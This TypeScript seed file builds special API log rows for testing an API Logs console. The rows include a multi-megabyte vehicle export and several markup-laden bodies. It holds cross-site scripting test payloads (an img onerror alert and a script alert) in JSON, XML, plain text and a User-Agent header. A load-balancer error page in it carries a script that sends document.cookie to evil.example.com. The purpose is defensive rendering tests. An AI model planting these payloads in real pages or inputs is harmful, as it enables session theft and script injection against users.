/**
 * Hand-made API log rows that the generated stream does not produce, so the API Logs screen
 * can be tested against the cases it must survive:
 * - a response body of several megabytes (an admin's 1000-row vehicle export with images);
 * - bodies holding markup, `<img src=x onerror=…>` and `<script>`, as JSON, XML, HTML and
 *   plain text, and in a request header: the console must show them as text and run nothing;
 * - a plain-text and an HTML answer (from the load balancer in front of the platform).
 * No randomness: the rows are the same at every scale and on every seed.
 */
import { HOUR, iso, MINUTE } from './seed-context.ts';
import type { LogRefs } from './seed-log-refs.ts';

export interface SpecialApiLog {
  ms: number;
  siteId: number | null;
  userId: number | null;
  user: string | null;
  method: string;
  route: string;
  params: Record<string, unknown> | null;
  headers: Record<string, string>;
  requestType: string | null;
  request: string | null;
  status: number;
  responseType: string | null;
  response: string | null;
  durationMs: number;
}

/** The script and image-error payloads the console must render inert. */
export const markupPayloads = {
  img: '<img src=x onerror=alert(1)>',
  script: "<script>alert('xss')</script>",
} as const;

const browser = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36';

/** Rows of a 1000-vehicle export page: each vehicle with its seller, positions and six images (about 4 KB). */
function exportPage(refs: LogRefs): string {
  const perPage = 1000;
  const data = Array.from({ length: perPage }, (_, index) => {
    const vehicle = refs.vehicles[index % refs.vehicles.length];
    if (!vehicle) throw new Error('seed: the API log export needs vehicles');
    const dealer = refs.dealersBySite.get(vehicle.siteId)?.[index % 97];
    const images = Array.from({ length: 6 }, (_, k) => {
      const imageId = 100_000 + index * 6 + k;
      const url = (size: string) => `/v3/images/vehicle/${imageId}/${size}?sig=${(imageId * 2654435761).toString(36).padStart(43, 'x')}`;
      return {
        vehicle_image_id: imageId,
        vehicle_id: vehicle.id,
        image_file_path: vehicle.photo,
        mime_type: 'image/png',
        is_private: k === 5 ? 1 : 0,
        main_image: k === 0 ? 1 : 0,
        vehicle_images_type_name: 'photo',
        created_at: iso(vehicle.receivedMs + (k + 1) * HOUR),
        other_sizes: { small: url('small'), thumb: url('thumb'), original: url('original'), large: url('large') },
      };
    });
    return {
      id: vehicle.id,
      vehicle_id: vehicle.id,
      site_id: vehicle.siteId,
      vin: vehicle.vin,
      last6: vehicle.vin.slice(-6),
      is_active: 'Y',
      autoyear: vehicle.year,
      automake: vehicle.make,
      automodel: vehicle.model,
      mileage: vehicle.mileage,
      odometer_uom: 'mi',
      body_type: vehicle.bodyCode,
      vehicle_status_id: vehicle.status,
      received_date: iso(vehicle.receivedMs).slice(0, 10),
      seller: dealer ? { dealer_id: dealer.id, dealer_num: dealer.num, dealer_name: dealer.name, auction_access: dealer.auctionAccess } : null,
      vehicle_positions: [],
      vehicle_images: images,
    };
  });
  return JSON.stringify({ data, current_page: 1, per_page: perPage, total: refs.vehicles.length, last_page: Math.ceil(refs.vehicles.length / perPage) });
}

const gatewayTimeoutPage = [
  '<html>',
  '<head><title>504 Gateway Time-out</title>',
  `<script>document.location='https://evil.example.com/?c='+document.cookie</script></head>`,
  '<body>',
  '<center><h1>504 Gateway Time-out</h1></center>',
  `<hr><center>lb-02 ${markupPayloads.img}</center>`,
  '</body>',
  '</html>',
].join('\n');

/** The hand-made rows, a day and a few hours before the reference. */
export function specialApiLogs(refs: LogRefs, reference: number): SpecialApiLog[] {
  const admin = refs.admins[0];
  const dallas = refs.sites.find((site) => site.code === 'DAL') ?? refs.sites[0];
  if (!admin || !dallas) throw new Error('seed: the special API logs need an admin and a site');
  const staff = refs.staffBySite.get(dallas.id)?.[0] ?? null;
  const vehicle = refs.vehiclesBySite.get(dallas.id)?.[0];
  // At tiny scales Dallas may have no dealer rep: the logged call then names rep 1.
  const rep = refs.dealersBySite.get(dallas.id)?.find((dealer) => dealer.reps.length > 0)?.reps[0] ?? { id: 1, name: 'Ann Lee' };
  if (!vehicle) throw new Error('seed: the special API logs need a Dallas vehicle');
  const json = 'application/json';
  const headers = (extra: Record<string, string> = {}) => ({
    Host: 'api.example.com',
    Accept: 'application/json, text/plain, */*',
    'User-Agent': browser,
    Authorization: 'Bearer ****',
    ...extra,
  });
  const renamedRep = { display_name: markupPayloads.img, auth_reason: `Verified by phone ${markupPayloads.script}` };

  return [
    {
      // Several megabytes: what an admin's export of 1000 vehicles with their images returns.
      ms: reference - 26 * HOUR - 14 * MINUTE,
      siteId: null,
      userId: admin.id,
      user: admin.email,
      method: 'GET',
      route: '/v3/util/vehicles',
      params: { paginate2: '1', page: '1', per_page: '1000', 'with[]': 'seller,vehicle_positions,vehicle_images', 'order_by[]': 'vehicle_id|asc' },
      headers: headers({ 'X-Request-Id': 'export-1000-vehicles' }),
      requestType: null,
      request: null,
      status: 200,
      responseType: json,
      response: exportPage(refs),
      durationMs: 4_812,
    },
    {
      // Markup typed into a dealer rep's name, echoed back; the user agent carries markup too.
      ms: reference - 5 * HOUR - 41 * MINUTE,
      siteId: dallas.id,
      userId: staff?.id ?? null,
      user: staff?.username ?? null,
      method: 'PUT',
      route: `/v3/util/dealer_reps/${rep.id}`,
      params: {},
      headers: headers({ 'Content-Type': json, 'User-Agent': `${browser} ${markupPayloads.img}` }),
      requestType: json,
      request: JSON.stringify(renamedRep),
      status: 200,
      responseType: json,
      response: JSON.stringify({
        id: rep.id,
        ...renamedRep,
        name_first: rep.name.split(' ')[0],
        name_last: rep.name.split(' ').slice(1).join(' '),
        auth_flag: 'Y',
      }),
      durationMs: 64,
    },
    {
      // An XML vehicle event from Cubed with markup in an escaped text node and in CDATA.
      ms: reference - 3 * HOUR - 8 * MINUTE,
      siteId: dallas.id,
      userId: null,
      user: 'cubed-bridge',
      method: 'POST',
      route: '/v3/integration/cubed/vehicle-events',
      params: {},
      headers: { Host: 'api.example.com', 'Content-Type': 'application/xml', 'User-Agent': 'CubedBridge/4.2', 'X-Request-Id': 'cubed-event-markup' },
      requestType: 'application/xml',
      request: [
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<VehicleEvent type="VehicleCheckIn" eventId="5512907">',
        `  <Company>${dallas.def.cubedCompanyId}</Company>`,
        `  <Asset id="${vehicle.id}"><Vin>${vehicle.vin}</Vin><Year>${vehicle.year}</Year><Make>${vehicle.make}</Make>`,
        `    <Model>&lt;img src=x onerror=alert(1)&gt;</Model></Asset>`,
        `  <Notes><![CDATA[${markupPayloads.script} ${markupPayloads.img}]]></Notes>`,
        '</VehicleEvent>',
      ].join('\n'),
      status: 422,
      responseType: 'application/xml',
      response: `<?xml version="1.0" encoding="UTF-8"?>\n<Error code="422"><Message>Model is not a known model: &lt;img src=x onerror=alert(1)&gt;</Message></Error>`,
      durationMs: 31,
    },
    {
      // Plain text, as a client posted it, with a plain-text answer from the proxy.
      ms: reference - 2 * HOUR - 19 * MINUTE,
      siteId: dallas.id,
      userId: staff?.id ?? null,
      user: staff?.username ?? null,
      method: 'POST',
      route: `/v3/vehicles3/${vehicle.id}/inspections`,
      params: {},
      headers: headers({ 'Content-Type': 'text/plain;charset=UTF-8' }),
      requestType: 'text/plain;charset=UTF-8',
      request: `condition_report_type_id=1\nnote=${markupPayloads.script}`,
      status: 502,
      responseType: 'text/plain; charset=utf-8',
      response: 'upstream connect error or disconnect/reset before headers. reset reason: connection termination',
      durationMs: 30_004,
    },
    {
      // An HTML error page from the load balancer, scripts included.
      ms: reference - 1 * HOUR - 2 * MINUTE,
      siteId: null,
      userId: admin.id,
      user: admin.email,
      method: 'GET',
      route: '/v3/admin/api-status/summary',
      params: {},
      headers: headers(),
      requestType: null,
      request: null,
      status: 504,
      responseType: 'text/html',
      response: gatewayTimeoutPage,
      durationMs: 60_000,
    },
  ];
}
